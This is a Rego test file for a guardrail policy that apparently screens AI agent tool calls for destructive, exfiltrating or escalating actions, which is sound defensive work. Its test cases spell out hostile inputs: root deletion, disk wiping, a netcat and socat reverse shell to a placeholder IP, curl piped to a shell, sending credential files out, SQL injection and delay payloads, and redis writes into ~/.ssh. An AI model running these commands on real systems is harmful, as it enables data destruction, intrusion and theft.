package defenseclaw.guardrail_facts_test

import data.defenseclaw.guardrail

_none := {
	"commands": [],
	"reads": [],
	"writes": [],
	"hosts": [],
	"flows": [],
	"sql": [],
	"code": [],
	"recursions": [],
	"truncated": false,
}

_request(facts) := {"direction": "tool_call", "mode": "action", "facts": object.union(_none, facts)}

_command(name, operands, flags) := {
	"name": name,
	"operands": operands,
	"flags": flags,
	"via": [],
	"sure": true,
	"text": concat(" ", array.concat([name], operands)),
}

_ids(facts) := ids if {
	found := guardrail.findings with input as _request(facts)
	ids := {f.id | some f in found}
}

_action(facts) := action if {
	action := guardrail.action with input as _request(facts)
}

test_no_facts_no_findings if not guardrail.findings with input as {"direction": "prompt", "mode": "action"}

test_nothing_done_is_allowed if {
	_ids({}) == set()
	_action({}) == "allow"
}

test_command_is_found[id] if {
	some id, command in {
		"FACT-DELETE-ROOT": _command("rm", ["/"], ["r", "f"]),
		"FACT-DELETE-ALL": _command("rm", ["*"], ["r"]),
		"FACT-DELETE-FOUND": _command("find", ["/"], ["delete"]),
		"FACT-DELETE-WINDOWS": _command("Remove-Item", [`C:\`], ["Recurse"]),
		"FACT-WIPE-DISK": _command("mkfs.ext4", ["/dev/sda1"], []),
		"FACT-OPEN-ROOT": _command("chmod", ["777", "/etc"], ["R"]),
		"FACT-OPEN-SYSTEM": _command("chmod", ["777", "/etc/hosts"], []),
		"FACT-DESTROY": _command("kubectl", ["delete", "ns", "prod"], []),
		"FACT-REVERSE-SHELL": _command("nc", ["203.0.113.9"], ["e"]),
		"FACT-RUN-DOWNLOAD-POWERSHELL": _command("iex", ["iwr", "x"], []),
		"FACT-RUN-ENCODED-POWERSHELL": _command("powershell", ["-enc", "SQBFAFgAIABhAGIAYwA="], []),
	}
	id in _ids({"commands": [command]})
}

test_every_way_to_name_it_is_found if {
	every command in [
		_command("rm", ["/*"], ["r"]),
		_command("rm", ["~/*"], ["recursive"]),
		_command("socat", ["exec:/bin/sh", "tcp:203.0.113.9:1"], []),
		_command("iptables", [], ["F"]),
		_command("xmrig", [], []),
		_command("shred", ["/dev/sda"], []),
	] {
		count(_ids({"commands": [command]})) > 0
	}
}

test_honest_command_is_not_found if {
	every command in [
		_command("rm", ["./build", "node_modules"], ["r", "f"]),
		_command("rm", ["/tmp/x"], ["r"]),
		_command("find", ["."], ["delete"]),
		_command("kubectl", ["delete", "pod", "x"], []),
		_command("chmod", ["644", "/etc/hosts"], []),
		_command("fdisk", ["/dev/sda"], ["l"]),
		_command("git", ["push", "origin", "feature"], ["delete"]),
	] {
		_ids({"commands": [command]}) == set()
	}
}

test_what_only_shows_is_not_found if {
	every command in [
		_command("aws", ["s3", "rm", "s3://b/p"], ["recursive", "dryrun"]),
		object.union(_command("kubectl", ["delete", "ns", "x"], ["dry-run"]), {"text": "kubectl delete ns x --dry-run=client"}),
		_command("git", ["push", "origin"], ["mirror", "dry-run"]),
	] {
		_ids({"commands": [command]}) == set()
	}
}

test_what_seems_to_show_is_found if {
	every command in [
		_command("aws", ["s3", "rm", "s3://b/p", "dryrun"], ["recursive"]),
		object.union(_command("kubectl", ["delete", "ns", "x"], ["dry-run"]), {"text": "kubectl delete ns x --dry-run=none"}),
		object.union(_command("kubectl", ["delete", "ns", "x"], ["dry-run"]), {"text": "kubectl delete ns x --dry-run=none -- --dry-run=client"}),
		object.union(_command("kubectl", ["delete", "ns", "x", "--dry-run=client"], []), {"text": "kubectl delete ns x -- --dry-run=client"}),
		_command("git", ["push", "origin"], ["mirror", "dry-run", "no-dry-run"]),
	] {
		_ids({"commands": [command]}) == {"FACT-DESTROY"}
	}
}

test_environment_of_processes_is_sent if {
	flows := [_flow("gets", ["ps", "gzip"], [], "curl")]
	"FACT-SEND-ENVIRONMENT" in _ids({"flows": flows, "commands": [_command("ps", ["eww"], ["ax"])]})
	_ids({"flows": flows, "commands": [_command("ps", [], ["e", "f"])]}) == set()
	_ids({"flows": flows, "commands": [_command("ps", ["aux"], [])]}) == set()
}

test_place_is_found[id] if {
	some id, facts in {
		"FACT-WRITE-DISK": {"writes": ["/dev/sda"]},
		"FACT-REVERSE-SHELL": {"writes": ["/dev/tcp/203.0.113.9/1"]},
		"FACT-READ-SECRET": {"reads": ["~/.aws/credentials"]},
		"FACT-READ-SENSITIVE": {"reads": ["app/.env"]},
		"FACT-WRITE-PERSISTENCE": {"writes": ["/etc/cron.d/x"]},
		"FACT-WRITE-STARTUP": {"writes": ["~/.zshrc"]},
		"FACT-WRITE-MEMORY": {"writes": ["repo/CLAUDE.md"]},
	}
	places := {kind: [{"path": path, "by": "x", "sure": true} | some path in paths] | some kind, paths in facts}
	id in _ids(places)
}

test_public_key_is_no_secret if {
	_ids({"reads": [{"path": "~/.ssh/id_ed25519.pub", "by": "cat", "sure": true}]}) == set()
}

test_name_counts_as_a_whole if {
	every path in ["app/.env.example", "etc/shadow", "my.npmrc"] {
		_ids({"reads": [{"path": path, "by": "cat", "sure": true}]}) == set()
	}
}

test_place_may_hold_any_characters if {
	list := ["/srv/c++ (old)/", "notes[1].txt$", "a|b", "$HOME*"]
	every path in ["/srv/c++ (old)/key", "docs/notes[1].txt", "x/a|b", "x/$HOME*/y"] {
		ids := _ids({"reads": [{"path": path, "by": "cat", "sure": true}]}) with data.guardrail.facts.secret_reads as list
		ids == {"FACT-READ-SECRET"}
	}
	every path in ["srv/c++ (old)/key", "/srv/c (old)/key", "docs/notes1.txt", "x/a", "x/$HOME"] {
		ids := _ids({"reads": [{"path": path, "by": "cat", "sure": true}]}) with data.guardrail.facts.secret_reads as list
		ids == set()
	}
}

_flow(kind, from, reads, into) := {"kind": kind, "from": from, "reads": reads, "into": into, "sure": true}

test_flow_is_found[id] if {
	some id, flow in {
		"FACT-RUN-DOWNLOAD": _flow("runs", ["curl"], [], "bash"),
		"FACT-RUN-DECODED": _flow("runs", ["base64"], [], "sh"),
		"FACT-REVERSE-SHELL": _flow("gets", ["sh"], [], "nc"),
		"FACT-SEND-SECRET": _flow("gets", ["cat"], ["~/.netrc"], "curl"),
		"FACT-SEND-ENVIRONMENT": _flow("gets", ["env"], [], "curl"),
	}
	id in _ids({"flows": [flow]})
	_action({"flows": [flow]}) == "block"
}

test_what_is_only_got_is_not_run if _ids({"flows": [_flow("gets", ["curl"], [], "bash")]}) == set()

test_file_that_was_downloaded_is_run[note] if {
	some note, tc in {
		"by an interpreter": _saved_by("curl", "/tmp/x", _command("bash", ["/tmp/x", "now"], [])),
		"by the shell itself": _saved_by("curl", "x", _command(".", ["./x"], [])),
		"under its own name": _saved_by("curl", "/tmp/x", object.union(_command("x", [], []), {"text": "/tmp/x --now"})),
		"once it may be": _saved_by("curl", "x", _command("chmod", ["u+x", "x"], [])),
		"once it may be, by number": _saved_by("curl", "x", _command("chmod", ["0755", "y", "x"], [])),
		"and was kept by tee": object.union(
			_saved_by("tee", "x", _command("sh", ["x"], [])),
			{"flows": [_flow("gets", ["curl"], [], "tee")]},
		),
		"as wget calls it": {"commands": [_command("wget", ["e.example/d/x"], []), _command("sh", ["./x"], [])]},
		"as its address does": {"commands": [
			_command("curl", ["https://e.example/x.sh?v=1/2"], ["L", "O"]),
			_command("sh", ["x.sh"], []),
		]},
	}
	_ids(tc) == {"FACT-RUN-SAVED-DOWNLOAD"}
}

test_file_that_was_downloaded_is_not_run[note] if {
	some note, tc in {
		"by what reads it": _saved_by("curl", "x.json", _command("python3", ["parse.py", "x.json"], [])),
		"by who may write it": _saved_by("curl", "x", _command("chmod", ["644", "x"], [])),
		"by what unpacks it": {"commands": [_command("wget", ["https://e.example/x.tgz"], []), _command("tar", ["x.tgz"], [])]},
		"when it was printed": {"commands": [_command("curl", ["https://e.example/x"], ["s"]), _command("sh", ["x"], [])]},
		"when tee got something else": object.union(
			_saved_by("tee", "x", _command("sh", ["x"], [])),
			{"flows": [_flow("gets", ["date"], [], "tee")]},
		),
	}
	_ids(tc) == set()
}

test_standard_input_that_was_downloaded_is_run if {
	_ids({"flows": [_flow("gets", ["curl"], ["/dev/stdin"], "source")]}) == {"FACT-RUN-DOWNLOAD"}
	_ids({"flows": [_flow("gets", ["curl"], ["settings"], "source")]}) == set()
}

_saved_by(program, path, command) := {
	"writes": [{"path": path, "by": program, "sure": true}],
	"commands": [_command("curl", ["https://e.example/"], ["o"]), command],
}

test_host_is_found[id] if {
	some id, host in {"FACT-SEND-TO-COLLECTOR": "x.webhook.site", "FACT-READ-METADATA": "169.254.169.254"}
	_ids({"hosts": [{"host": host, "by": "curl"}]}) == {id}
}

_statement(text) := {
	"words": split(text, " "),
	"where": contains(text, "WHERE"),
	"always": contains(text, "1 = 1"),
	"sure": true,
}

test_statement_is_found[text] if {
	some text, id in {
		"DROP DATABASE PROD": "FACT-SQL-DROP",
		"DROP TABLE USERS": "FACT-SQL-DROP-TABLE",
		"DELETE FROM USERS": "FACT-SQL-EMPTY",
		"DELETE FROM USERS WHERE 1 = 1": "FACT-SQL-EMPTY",
		"UPDATE USERS SET ADMIN = 1": "FACT-SQL-UPDATE-ALL",
		"SELECT * FROM USERS WHERE X OR 1 = 1": "FACT-SQL-INJECTION",
		"EXEC XP_CMDSHELL": "FACT-SQL-SHELL",
		"SELECT A UNION SELECT TABLE_NAME FROM INFORMATION_SCHEMA.TABLES": "FACT-SQL-SPY",
		"GRANT ALL ON X TO Y": "FACT-SQL-GRANT",
		"ALTER USER APP WITH SUPERUSER": "FACT-SQL-GRANT",
		"LOAD DATA INFILE '/ETC/PASSWD' INTO TABLE X": "FACT-SQL-SHELL",
		"OR 1 = 1": "FACT-SQL-INJECTION",
		"IF SELECT LEN P FROM L > 8 WAITFOR DELAY '0:0:10'": "FACT-SQL-DELAY",
		"SELECT X FROM T WHERE ID = 1 AND SLEEP 5": "FACT-SQL-DELAY",
	}
	id in _ids({"sql": [_statement(text)]})
}

test_honest_statement_is_not_found if {
	every text in ["SELECT * FROM USERS WHERE ID = 7", "DELETE FROM USERS WHERE ID = 7", "CREATE TABLE X", "DROP INDEX X"] {
		_ids({"sql": [_statement(text)]}) == set()
	}
	every text in [
		"ALTER USER APP WITH NOSUPERUSER",
		"LOAD DATA LOCAL INFILE 'IMPORT.CSV' INTO TABLE X",
		"SELECT PG_SLEEP 1",
		"WAITFOR DELAY '00:00:05'",
		"SELECT X FROM NIGHTS WHERE SLEEP > 7 AND MOOD = 3",
	] {
		_ids({"sql": [_statement(text)]}) == set()
	}
}

_drops(texts) := "FACT-SQL-DROP-TABLE" in _ids({"sql": [_statement(text) | some text in texts]})

test_temporary_table_may_be_dropped if not _drops(["CREATE TEMP TABLE T AS SELECT 1", "DROP TABLE T"])

test_table_behind_a_temporary_one_may_not if {
	_drops(["CREATE TEMP TABLE T AS SELECT 1", "DROP TABLE U"])
	_drops(["DROP TABLE T", "CREATE TEMP TABLE T AS SELECT 1"])
	_drops(["CREATE TEMP TABLE T AS SELECT 1", "DROP TABLE T", "DROP TABLE T"])
	_drops(["CREATE TEMP TABLE T AS SELECT 1", "DROP TABLE IF EXISTS T", "DROP TABLE T"])
	ids := _ids({
		"sql": [_statement("CREATE TEMP TABLE T AS SELECT 1"), _statement("DROP TABLE T")],
		"commands": [_command("psql", [], []), _command("psql", [], [])],
	})
	"FACT-SQL-DROP-TABLE" in ids
}

_code(names) := {"language": "python", "names": names, "sure": true}

test_code_is_found if {
	_ids({"code": [_code(["socket.socket", "os.dup2"])]}) == {"FACT-REVERSE-SHELL"}
	_ids({"code": [_code(["exec", "base64.b64decode"])]}) == {"FACT-RUN-DECODED"}
	_ids({"code": [_code(["shutil.rmtree"])], "reads": [{"path": "/", "by": "python", "sure": true}]}) == {"FACT-DELETE-ROOT"}
	_ids({"code": [_code(["json.loads", "open"])]}) == set()
}

test_fork_bomb_and_too_much_are_found if {
	_ids({"recursions": [":"]}) == {"FACT-FORK-BOMB"}
	_ids({"truncated": true}) == {"FACT-TRUNCATED"}
}

test_text_that_only_reads_like_a_command_is_never_blocked if {
	command := object.union(_command("rm", ["/"], ["r"]), {"sure": false})
	_action({"commands": [command]}) == "alert" with data.guardrail.block_threshold as 4
	decision := guardrail with input as _request({"commands": [command]})
	decision.severity == "HIGH"
}

test_facts_are_named_in_reason_and_sources if {
	decision := guardrail with input as _request({"commands": [_command("rm", ["/"], ["r"])]})
	decision.reason == "tool-facts: Deletes a root, home or system folder"
	decision.scanner_sources == {"opa-policy", "tool-facts"}
}

test_facts_without_lists_are_weighed_all_the_same if {
	decision := guardrail with input as _request({"recursions": [":"]})
		with data.guardrail as object.remove(data.guardrail, ["facts"])
	decision.action == "block"
}

_sends(argv, flags, flow) := {
	"commands": [_command(argv[0], array.slice(argv, 1, 16), flags)],
	"flows": [object.union({"kind": "gets", "from": [argv[0]], "reads": [], "into": "curl", "sure": true}, flow)],
}

test_credentials_that_a_program_prints_are_not_sent if {
	"FACT-SEND-CREDENTIALS" in _ids(_sends(["kubectl", "get", "secret", "db"], [], {}))
	"FACT-SEND-CREDENTIALS" in _ids(_sends(["kubectl", "get", "secrets/db"], ["o"], {}))
	"FACT-SEND-CREDENTIALS" in _ids(_sends(["gpg"], ["export-secret-keys", "a"], {}))
	"FACT-SEND-CREDENTIALS" in _ids(_sends(["vault", "kv", "get", "app"], ["field"], {"into": "nc"}))
}

test_what_is_no_credential_or_logs_in_is if {
	_ids(_sends(["kubectl", "get", "pods"], [], {})) == set()
	_ids(_sends(["gpg"], ["export", "a"], {})) == set()
	_ids(_sends(["gh", "auth", "token"], [], {"substituted": ["gh"]})) == set()
	_ids(_sends(["kubectl", "get", "secret", "tls"], [], {"into": "openssl"})) == set()
	_ids({"commands": [_command("kubectl", ["get", "secrets"], [])]}) == set()
	_ids({"commands": [_command("gpg", [], ["export-secret-keys"])]}) == set()
}

test_what_stands_in_its_data_is_sent_unless_it_logs_in_there if {
	told := {"substituted": ["kubectl"], "sends": ["kubectl"]}
	"FACT-SEND-CREDENTIALS" in _ids(_sends(["kubectl", "get", "secret", "tls"], [], told))
	_ids(_sends(["kubectl", "get", "secret", "tls"], [], {"substituted": ["kubectl"]})) == set()
	_ids(_sends(["gh", "auth", "token"], [], {"substituted": ["gh"], "sends": ["gh"]})) == set()
	"FACT-SEND-CREDENTIALS" in _ids(_sends(["gh", "auth", "token"], [], {}))
}

test_a_pod_may_be_given_its_machine if {
	every right in ["privileged", "hostPID", "hostPath"] {
		"FACT-PRIVILEGED-POD" in _ids({"code": [{"language": "kubernetes", "names": [right], "sure": true}]})
	}
	_ids({"code": [{"language": "python", "names": ["privileged"], "sure": true}]}) == set()
}

test_a_database_saves_where_databases_save if {
	"FACT-WRITE-BY-DATABASE" in _ids({"commands": [_command("redis-cli", ["CONFIG", "SET", "dir", "~/.ssh"], [])]})
	"FACT-WRITE-BY-DATABASE" in _ids({"commands": [_command("redis-cli", ["config", "set", "dir", "/etc/cron.d"], [])]})
	"FACT-WRITE-BY-DATABASE" in _ids({"commands": [_command("valkey-cli", ["CONFIG", "SET", "dbfilename", "shell.php"], [])]})
	_ids({"commands": [_command("redis-cli", ["CONFIG", "SET", "dir", "/var/lib/redis"], [])]}) == set()
	_ids({"commands": [_command("redis-cli", ["CONFIG", "SET", "dir", "/usr/local/var/db/redis"], [])]}) == set()
	_ids({"commands": [_command("redis-cli", ["CONFIG", "SET", "dbfilename", "dump.rdb"], [])]}) == set()
	_ids({"commands": [_command("redis-cli", ["GET", "dir"], [])]}) == set()
}

test_drives_of_windows if {
	every name in ["ri", "Remove-Item", "rm", "rd", "del", "format"] {
		"FACT-DELETE-WINDOWS" in _ids({"commands": [_command(name, ["C:"], [])]})
	}
	every place in ["C:/Windows", "D:\\*", "$env:SystemRoot", "%USERPROFILE%", "$env:SystemDrive\\*"] {
		"FACT-DELETE-WINDOWS" in _ids({"commands": [_command("ri", [place], [])]})
	}
	every place in ["./bin", "C:/work/app/obj", "$env:TEMP\\*", "%TEMP%"] {
		_ids({"commands": [_command("ri", [place], [])]}) == set()
	}
}
